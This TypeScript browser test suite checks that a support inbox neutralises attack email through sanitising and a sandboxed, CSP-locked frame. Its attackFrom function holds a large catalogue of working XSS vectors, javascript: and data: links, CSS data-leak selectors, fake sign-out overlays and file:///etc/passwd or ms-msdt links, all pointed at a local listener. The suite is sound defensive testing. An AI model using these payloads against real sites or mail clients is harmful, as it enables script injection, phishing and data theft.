/** Mail made to attack the agent: nothing runs, nothing is loaded from elsewhere, nothing leaves its frame. With the sanitiser and without. */
import { once } from 'node:events'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { hasPeer } from '@cordboard/channel-testkit/peers'
import type { Frame, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, onTestFinished, test } from 'vitest'
import type { Seat } from './support/browser.ts'
import { InboxPage } from './support/inbox-page.ts'
import { openStage, type Stage } from './support/stage.ts'

/** What the browser says when it refuses, or finds no `x` at the desk: expected only where the sanitiser is off. */
const refusals = /Content Security Policy|sandboxed|Unsafe attempt|Blocked form submission|ERR_BLOCKED|404/i

describe.skipIf(!hasPeer('chromium') || !hasPeer('dovecot'))('mail made to attack', () => {
  let stage: Stage
  const reached: string[] = []
  const bait = listenFor(reached)
  let attack: string
  beforeAll(async () => {
    attack = attackFrom(await addressOf(bait))
    stage = await openStage()
    await stage.customerWrites({
      from: 'mallory',
      name: 'Mallory',
      subject: 'Harmless <img src=x onerror=run()>',
      html: attack,
    })
  }, 120_000)
  afterAll(async () => {
    await stage[Symbol.asyncDispose]()
    bait.close()
  })

  async function opened(seat: Seat): Promise<{ frame: Frame; outside: string[]; tabs: Page[] }> {
    const outside: string[] = []
    const tabs: Page[] = []
    seat.context.on('page', (page) => void tabs.push(page))
    // A request the policy stopped has no response and never left the browser.
    seat.context.on('response', (response) => {
      if (!response.url().startsWith(stage.desk.url) && !response.url().startsWith('data:'))
        outside.push(response.url())
    })
    seat.context.on('requestfailed', (request) => {
      if (!['csp', 'origin'].includes(request.failure()?.errorText ?? ''))
        outside.push(`${request.url()}: ${request.failure()?.errorText}`)
    })
    seat.page.on('dialog', (dialog) => {
      outside.push(`dialog: ${dialog.message()}`)
      dialog.dismiss().catch(() => undefined)
    })
    const inbox = new InboxPage(seat.page)
    await inbox.open('Mallory')
    const element = await inbox.thread.getByTitle('Mallory: message').elementHandle()
    const frame = await element?.contentFrame()
    if (!frame) throw new Error('The mail has no frame.')
    await frame.getByText('Dear support').waitFor()
    return { frame, outside, tabs }
  }

  /** Everything a person could click, clicked. */
  async function touchEverything(frame: Frame): Promise<void> {
    for (const target of await frame.locator('a:not([href^="https:"]), button, input, summary, area').all()) {
      await target.click({ force: true, timeout: 1_000 }).catch(() => undefined)
    }
  }

  async function expectUnharmed(seat: Seat, { outside, tabs }: { outside: string[]; tabs: Page[] }): Promise<void> {
    const { page } = seat
    expect(await page.evaluate('window.pwned === undefined && !document.title.includes("pwned")')).toBe(true)
    expect(outside).toEqual([])
    expect(reached).toEqual([])
    expect(tabs.map((tab) => tab.url())).toEqual([])
    expect(page.url()).toContain(`${stage.desk.url}/c/`)
    // What lies over the page would take this click.
    await page.getByRole('button', { name: 'Resolve' }).click({ trial: true })
    await page.getByRole('textbox', { name: 'Search conversations' }).click({ trial: true })
    expect(await page.evaluate('document.documentElement.scrollWidth <= document.documentElement.clientWidth')).toBe(
      true,
    )
  }

  test('does harm on a page that does not guard itself, or the rest would prove nothing', async () => {
    const harmed: string[] = []
    const victim = listenFor(harmed)
    onTestFinished(() => void victim.close())
    const page = await stage.browser.newPage()
    await page.setContent(attackFrom(await addressOf(victim)), { waitUntil: 'commit' })
    await expect.poll(() => harmed.length).toBeGreaterThan(10)
    await expect.poll(() => harmed).toContain('GET /ran')
    await page.close()
  })

  test('is harmless once it is cleaned, and says that pictures were left out', async () => {
    const seat = await stage.sit('/inbox/all')
    const seen = await opened(seat)
    await touchEverything(seen.frame)
    await seat.page.getByText('Pictures from the internet are not loaded.').waitFor()
    expect(
      await seen.frame.locator('script, iframe, form, object, embed, meta[http-equiv], link, base[href]').count(),
    ).toBe(0)
    await expectUnharmed(seat, seen)
  })

  test('is harmless even if cleaning did nothing at all: the frame is the wall', async () => {
    await stage.desk.sql('update messages set body_html = $1, folded_html = null where sender_name = $2', [
      attack,
      'Mallory',
    ])
    const seat = await stage.sit('/inbox/all', { tolerates: refusals })
    const seen = await opened(seat)
    expect(await seen.frame.locator('script').count()).toBeGreaterThan(0)
    await touchEverything(seen.frame)
    await expectUnharmed(seat, seen)
    const answer = await seat.page.request.get(seen.frame.url())
    expect(answer.headers()['content-security-policy']).toMatch(/default-src 'none'.*sandbox(?!.*allow-scripts)/)
  })
})

/** A server that writes down who came. */
function listenFor(reached: string[]): Server {
  return createServer((request, response) => {
    reached.push(`${request.method} ${request.url}`)
    response.end('window.top.pwned = true')
  }).listen(0, '127.0.0.1')
}

async function addressOf(server: Server): Promise<string> {
  if (!server.listening) await once(server, 'listening')
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`
}

function attackFrom(bait: string): string {
  const run = `window.top.pwned=true;document.title='pwned';fetch('${bait}/ran')`
  return `<html><head>
<base href="${bait}/" target="_top">
<meta http-equiv="refresh" content="0;url=${bait}/refresh">
<link rel="stylesheet" href="${bait}/style.css"><link rel="preload" as="image" href="${bait}/preload">
<link rel="dns-prefetch" href="${bait}"><link rel="prefetch" href="${bait}/prefetch">
<style>@import url(${bait}/import.css); body { background: url(${bait}/background) }
@font-face { font-family: spy; src: url(${bait}/font) } p { font-family: spy } a { cursor: url(${bait}/cursor), auto }</style>
<script>${run}</script><script src="${bait}/script.js"></script></head>
<body onload="${run}" background="${bait}/body">
<p>Dear support, this mail is harmless.</p>
<img src="x" onerror="${run}"><img src="${bait}/pixel.gif" width="1" height="1"><img srcset="${bait}/set 2x">
<picture><source srcset="${bait}/source"><img src="${bait}/picture"></picture>
<svg onload="${run}"><image href="${bait}/svg" /><use href="${bait}/use#a" /><a xlink:href="javascript:${run}"><text y="20">svg link</text></a></svg>
<a href="javascript:${run}">javascript</a> <a href=" jAvA&#x09;script:${run}">tricky</a>
<a href="data:text/html,<script>${run}</script>">data</a> <a href="vbscript:run">vbscript</a>
<form action="${bait}/form" method="post"><input name="secret" value="1"><input type="image" src="${bait}/input" alt="go"><button>Sign in again</button></form>
<button formaction="${bait}/formaction" onclick="${run}">Continue</button>
<iframe src="${bait}/iframe"></iframe><iframe srcdoc="<script>${run}</script>"></iframe>
<object data="${bait}/object"></object><embed src="${bait}/embed">
<video src="${bait}/video" poster="${bait}/poster" autoplay></video><audio src="${bait}/audio" autoplay></audio>
<div style="position:fixed;inset:-2000px;z-index:2147483647;background:#fff url(${bait}/overlay);width:9999px;height:9999px">
Your session has ended. <input autofocus onfocus="${run}" placeholder="Password"></div>
<table background="${bait}/table"><tr><td style="background-image:url('${bait}/cell')">cell</td></tr></table>
<details open ontoggle="${run}"><summary>more</summary>text</details><marquee onstart="${run}">moving</marquee>
<math><mi xlink:href="javascript:${run}">math</mi></math><style></style><img title="</style><script>${run}</script>">
<a href="#top" ping="${bait}/ping">ping</a> <a href="/api/v1/conversations" target="_top">own</a>
<form action="/api/v1/agents/me" method="post" target="_top" id="own"><input name="x"></form><button form="own">Update</button>
<svg><a><animate attributeName="href" values="javascript:${run}" /><text y="40">animated</text></a><foreignObject><iframe src="${bait}/foreign"></iframe></foreignObject></svg>
<dialog open style="inset:0;width:100vw;height:100vh">Signed out. <input type="password" autofocus></dialog>
<div popover id="pop">over</div><button popovertarget="pop">pop</button>
<style>body::before { content: "You are signed out"; position: fixed; inset: 0; z-index: 99 } input[value^="a"] { background: url(${bait}/leak) }
@keyframes k { from { background-image: url(${bait}/key) } } p { animation: k 1s } li { list-style-image: url(${bait}/list); content: image-set("${bait}/set" 1x) }</style>
<link rel="manifest" href="${bait}/manifest"><link rel="icon" href="${bait}/icon"><link rel="modulepreload" href="${bait}/module">
<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${bait}/speculation"]}]}</script>
<script type="importmap">{"imports":{"x":"${bait}/map"}}</script><script type="module">import "${bait}/esm"</script>
<frameset><frame src="${bait}/frame"></frameset><applet code="${bait}/applet"></applet><portal src="${bait}/portal"></portal>
<img src="${bait}/lazy" loading="lazy" longdesc="${bait}/longdesc" usemap="#m"><map name="m"><area href="javascript:${run}" coords="0,0,9,9"></map>
<a href="intent://x#Intent;scheme=http;end">intent</a> <a href="ms-msdt:/id x">protocol</a> <a href="file:///etc/passwd">file</a>
<textarea autofocus onfocus="${run}"></textarea><select autofocus onfocus="${run}"></select><keygen autofocus onfocus="${run}">
<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
</body></html>`
}
